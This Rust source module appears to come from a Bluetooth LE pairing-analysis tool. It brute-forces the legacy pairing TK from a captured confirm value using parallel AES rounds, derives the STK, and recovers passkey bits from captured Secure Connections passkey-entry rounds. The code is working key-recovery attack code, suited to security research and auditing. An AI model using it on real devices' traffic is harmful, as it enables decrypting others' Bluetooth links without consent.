//! Key recovery: the legacy TK brute force, passkey bits from LE Secure
//! Connections passkey entry, and the bookkeeping of bits learned from a failed
//! attempt. Pure functions over values taken from a capture.

use std::ops::Range;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};

use aes::hazmat::{cipher_round, cipher_round_par, inv_mix_columns};
use aes::{Block, Block8};

use crate::crypto::{Key128, c1_padding, c1_with_padding, f4, s1};

/// Passkeys run from 000000 to 999999; Just Works uses TK 0.
pub const PASSKEY_COUNT: u32 = 1_000_000;

/// The TK of a passkey: the passkey as a 128-bit integer.
pub fn tk_from_passkey(passkey: u32) -> Key128 {
    let mut tk = [0u8; 16];
    tk[12..].copy_from_slice(&passkey.to_be_bytes());
    tk
}

/// The passkey a TK stands for, when it is one (000000 to 999999).
pub fn passkey_of(tk: &Key128) -> Option<u32> {
    let passkey = u128::from_be_bytes(*tk);
    (passkey < u128::from(PASSKEY_COUNT)).then_some(passkey as u32)
}

/// Candidates a worker takes at a time: small enough for a prompt progress bar
/// and an early stop, large enough that taking one costs nothing.
const CHUNK: u32 = 1 << 14;

/// A search of TK candidates: the lowest passkey in a range whose TK matches.
pub trait TkSearch: Sync {
    fn find(&self, passkeys: Range<u32>) -> Option<u32>;
}

/// A search that tests one TK at a time with `matches`.
pub struct EachTk<F>(pub F);

impl<F: Fn(&Key128) -> bool + Sync> TkSearch for EachTk<F> {
    fn find(&self, mut passkeys: Range<u32>) -> Option<u32> {
        passkeys.find(|&p| (self.0)(&tk_from_passkey(p)))
    }
}

/// Tries every TK (0 first, then 1..999999) on every core and returns the first
/// (lowest) that matches. `progress` is called with the number of candidates
/// tried so far.
pub fn brute_force_tk(search: &impl TkSearch, progress: &mut dyn FnMut(u64)) -> Option<u32> {
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get()) as u32;
    brute_force_tk_on(threads, search, progress)
}

/// [`brute_force_tk`] on `threads` threads, the calling one included. Chunks of
/// candidates are handed out in increasing order; a thread stops at the first
/// chunk above a match found, so every chunk below the lowest match is searched
/// and that match is the answer.
pub fn brute_force_tk_on(
    threads: u32,
    search: &impl TkSearch,
    progress: &mut dyn FnMut(u64),
) -> Option<u32> {
    let next = AtomicU32::new(0);
    let best = AtomicU32::new(u32::MAX);
    let tried = AtomicU64::new(0);
    // Searches the next chunk; false when none is left worth searching.
    let work = || {
        let start = next.fetch_add(CHUNK, Ordering::Relaxed);
        if start >= PASSKEY_COUNT || start > best.load(Ordering::Relaxed) {
            return false;
        }
        let end = (start + CHUNK).min(PASSKEY_COUNT);
        if let Some(found) = search.find(start..end) {
            best.fetch_min(found, Ordering::Relaxed);
        }
        tried.fetch_add(u64::from(end - start), Ordering::Relaxed);
        true
    };
    std::thread::scope(|scope| {
        for _ in 1..threads.max(1) {
            scope.spawn(|| while work() {});
        }
        // The calling thread works too, and alone reports progress.
        while work() {
            progress(tried.load(Ordering::Relaxed));
        }
    });
    Some(best.into_inner()).filter(|&p| p < PASSKEY_COUNT)
}

/// The legacy confirm check c1(TK, r, preq, pres, ...) == confirm for a million
/// TKs, eight at a time.
///
/// Key expansion is most of the cost: every candidate is a new AES key, and
/// AES-NI's key-expansion instruction is slow and serial. So the round keys of
/// eight TKs are expanded side by side in plain code, with the S-box taken from
/// the `aes` crate (no crate expands many keys at once), and the rounds of the
/// eight encryptions run together through the crate's hazmat round function,
/// which uses AES-NI where the CPU has it. Only 4 octets of the result are
/// compared; the rare candidate that passes is checked with the whole c1.
pub struct ConfirmSearch {
    /// r XOR p1: the first block encrypted.
    first_block: u128,
    p1: Key128,
    p2: Key128,
    random: Key128,
    confirm: Key128,
    /// The S-box placed in each octet of a word, so that a key schedule step is
    /// four lookups and XORs: `sbox_at[k][b]` is S(b) << 8k.
    sbox_at: [[u32; 256]; 4],
}

/// Round constants of the AES-128 key schedule (FIPS 197 §5.2).
const RCON: [u8; 10] = [0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1b, 0x36];
const LANES: usize = 8;

/// The source octet of each state octet after ShiftRows (FIPS 197 §5.1.2):
/// octet r + 4c comes from row r, column c + r.
const SHIFT_ROWS: [usize; 16] = {
    let mut from = [0; 16];
    let mut i = 0;
    while i < 16 {
        let (row, column) = (i % 4, i / 4);
        from[i] = row + 4 * ((column + row) % 4);
        i += 1;
    }
    from
};

/// The AES S-box, read off the `aes` crate: a round on a block of 16 equal
/// octets b is MixColumns(S(b) everywhere), and InvMixColumns undoes the mix.
fn aes_sbox() -> [u8; 256] {
    std::array::from_fn(|b| {
        let mut block = Block::from([b as u8; 16]);
        cipher_round(&mut block, &Block::default());
        inv_mix_columns(&mut block);
        block[0]
    })
}

// Blocks and words are handled as integers whose least significant octet is
// the block's or word's first (the order they sit in memory): loading and
// storing them then costs no byte swap.
fn value(block: &[u8; 16]) -> u128 {
    u128::from_le_bytes(*block)
}

fn block(value: u128) -> Block {
    Block::from(value.to_le_bytes())
}

impl ConfirmSearch {
    pub fn new(random: Key128, p1: Key128, p2: Key128, confirm: Key128) -> ConfirmSearch {
        let sbox = aes_sbox();
        ConfirmSearch {
            first_block: value(&random) ^ value(&p1),
            p1,
            p2,
            random,
            confirm,
            sbox_at: std::array::from_fn(|k| {
                std::array::from_fn(|b| u32::from(sbox[b]) << (8 * k))
            }),
        }
    }

    /// Column `c` of SubBytes then ShiftRows of `state`.
    fn sub_shift_column(&self, state: &Block, c: usize) -> u32 {
        let [at0, at8, at16, at24] = &self.sbox_at;
        let octet = |row: usize| usize::from(state[SHIFT_ROWS[4 * c + row]]);
        at0[octet(0)] ^ at8[octet(1)] ^ at16[octet(2)] ^ at24[octet(3)]
    }

    /// SubBytes then ShiftRows: the last AES round before its round key.
    fn sub_shift(&self, state: &Block) -> u128 {
        (0..4).fold(0, |all, c| {
            all | u128::from(self.sub_shift_column(state, c)) << (32 * c)
        })
    }

    /// The round keys of the TKs of passkeys `first..first + 8`, by round.
    fn round_keys(&self, first: u32, keys: &mut [Block8; 11]) {
        let [at0, at8, at16, at24] = &self.sbox_at;
        for (lane, key) in keys[0].iter_mut().enumerate() {
            *key = Block::from(tk_from_passkey(first + lane as u32));
        }
        for (round, &rcon) in RCON.iter().enumerate() {
            let (done, next) = keys.split_at_mut(round + 1);
            for (previous, key) in done[round].iter().zip(next[0].iter_mut()) {
                let previous = value(&(*previous).into());
                // RotWord then SubWord of the last word: octets a b c d -> S(b) S(c) S(d) S(a).
                let [a, b, c, d] = ((previous >> 96) as u32).to_le_bytes();
                let rot_sub = at0[usize::from(b)]
                    ^ at8[usize::from(c)]
                    ^ at16[usize::from(d)]
                    ^ at24[usize::from(a)]
                    ^ u32::from(rcon);
                // Word i of the next key is rot_sub XOR words 0 to i of this one.
                let prefix = previous ^ previous << 32 ^ previous << 64 ^ previous << 96;
                let pair = u64::from(rot_sub) << 32 | u64::from(rot_sub);
                *key = block(prefix ^ (u128::from(pair) << 64 | u128::from(pair)));
            }
        }
    }

    /// The lowest of passkeys `first..first + 8` whose TK gives the confirm
    /// value; `keys` is room for their round keys.
    fn find_in_lanes(&self, first: u32, keys: &mut [Block8; 11]) -> Option<u32> {
        self.round_keys(first, keys);
        let key = |round: usize, lane: usize| value(&keys[round][lane].into());
        let mut state = Block8::default();
        for (lane, lane_state) in state.iter_mut().enumerate() {
            *lane_state = block(self.first_block ^ key(0, lane));
        }
        for round_keys in &keys[1..10] {
            cipher_round_par(&mut state, round_keys);
        }
        // First block's ciphertext, XOR p2, XOR round key 0 of the second encryption.
        let p2 = value(&self.p2);
        for (lane, lane_state) in state.iter_mut().enumerate() {
            *lane_state = block(self.sub_shift(lane_state) ^ key(10, lane) ^ p2 ^ key(0, lane));
        }
        for round_keys in &keys[1..10] {
            cipher_round_par(&mut state, round_keys);
        }
        // The first column of the last round, against the confirm's first 4 octets.
        let wanted = value(&self.confirm) as u32;
        (0..LANES)
            .filter(|&lane| self.sub_shift_column(&state[lane], 0) ^ key(10, lane) as u32 == wanted)
            .map(|lane| first + lane as u32)
            .find(|&p| self.matches(&tk_from_passkey(p)))
    }

    /// The whole c1 check of one TK.
    pub fn matches(&self, tk: &Key128) -> bool {
        c1_with_padding(tk, &self.random, &self.p1, &self.p2) == self.confirm
    }
}

impl TkSearch for ConfirmSearch {
    fn find(&self, passkeys: Range<u32>) -> Option<u32> {
        let whole = passkeys.len() as u32 / LANES as u32 * LANES as u32;
        let lanes_end = passkeys.start + whole;
        let mut keys = [Block8::default(); 11];
        (passkeys.start..lanes_end)
            .step_by(LANES)
            .find_map(|first| self.find_in_lanes(first, &mut keys))
            .or_else(|| (lanes_end..passkeys.end).find(|&p| self.matches(&tk_from_passkey(p))))
    }
}

/// What a legacy pairing exposes to a TK check.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct LegacyExchange {
    pub preq: [u8; 7],
    pub pres: [u8; 7],
    pub initiator: Option<([u8; 6], bool)>,
    pub responder: Option<([u8; 6], bool)>,
    pub mconfirm: Option<Key128>,
    pub sconfirm: Option<Key128>,
    pub mrand: Option<Key128>,
    pub srand: Option<Key128>,
}

impl LegacyExchange {
    /// A search of TK candidates by a confirm value and its random, when the
    /// capture has a matching pair and both addresses, and whose pair it is
    /// (`true`: the initiator's). Each side computes its confirm from its own TK.
    pub fn confirm_search(&self) -> Option<(ConfirmSearch, bool)> {
        let ((ia, ia_random), (ra, ra_random)) = (self.initiator?, self.responder?);
        let (confirm, random, initiators) =
            match (self.mconfirm, self.mrand, self.sconfirm, self.srand) {
                (Some(c), Some(r), _, _) => (c, r, true),
                (_, _, Some(c), Some(r)) => (c, r, false),
                _ => return None,
            };
        let (p1, p2) = c1_padding(
            &self.preq,
            &self.pres,
            u8::from(ia_random),
            u8::from(ra_random),
            &ia,
            &ra,
        );
        Some((ConfirmSearch::new(random, p1, p2, confirm), initiators))
    }

    /// STK = s1(TK, Srand, Mrand), once both randoms are known.
    pub fn stk(&self, tk: &Key128) -> Option<Key128> {
        Some(s1(tk, &self.srand?, &self.mrand?))
    }
}

/// One passkey-entry round as captured: commitments and nonces of both sides.
#[derive(Debug, Clone, Copy, Default)]
pub struct PasskeyRound {
    pub ca: Option<Key128>,
    pub cb: Option<Key128>,
    pub na: Option<Key128>,
    pub nb: Option<Key128>,
}

/// The bit each side committed to in one round, where its nonce was revealed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct RoundBits {
    pub initiator: Option<u8>,
    pub responder: Option<u8>,
}

/// Cai = f4(PKax, PKbx, Nai, 0x80|ri) and Cbi = f4(PKbx, PKax, Nbi, 0x80|ri):
/// two f4 trials per side reveal ri (Vol 3 Part H §2.3.5.6.3).
pub fn round_bits(pka_x: &[u8; 32], pkb_x: &[u8; 32], round: &PasskeyRound) -> RoundBits {
    let bit = |u: &[u8; 32], v: &[u8; 32], c: Option<Key128>, n: Option<Key128>| {
        let (c, n) = (c?, n?);
        (0..=1u8).find(|&b| f4(u, v, &n, 0x80 | b) == c)
    };
    RoundBits {
        initiator: bit(pka_x, pkb_x, round.ca, round.na),
        responder: bit(pkb_x, pka_x, round.cb, round.nb),
    }
}

/// Passkey bits known to an observer (bit i from round i), and how many passkeys fit them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KnownBits {
    /// Which bits are known.
    pub mask: u32,
    pub value: u32,
}

impl KnownBits {
    pub fn count(&self) -> u32 {
        self.mask.count_ones()
    }

    /// "the low 6 bits", or "19 of the low 20 bits (round(s) 7 unknown)".
    pub fn describe(&self) -> String {
        let count = self.count();
        if self.mask == 1 {
            return "the lowest bit".into();
        }
        if self.mask == (1u32 << count) - 1 {
            return format!("the low {count} bits");
        }
        let highest = 32 - self.mask.leading_zeros();
        let unknown: Vec<String> = (0..highest)
            .filter(|i| self.mask & (1 << i) == 0)
            .map(|i| i.to_string())
            .collect();
        format!(
            "{count} of the low {highest} bits (round(s) {} unknown)",
            unknown.join(", ")
        )
    }

    /// The known bits in binary, most significant first, `?` where unknown.
    pub fn pattern(&self) -> String {
        let highest = 32 - self.mask.leading_zeros();
        (0..highest)
            .rev()
            .map(|i| match (self.mask >> i & 1, self.value >> i & 1) {
                (0, _) => '?',
                (_, 0) => '0',
                _ => '1',
            })
            .collect()
    }

    /// The passkeys 000000..999999 that agree with the known bits.
    pub fn candidates(&self) -> u32 {
        let (mask, value) = (self.mask & 0xf_ffff, self.value & self.mask & 0xf_ffff);
        (0..PASSKEY_COUNT).filter(|p| p & mask == value).count() as u32
    }
}
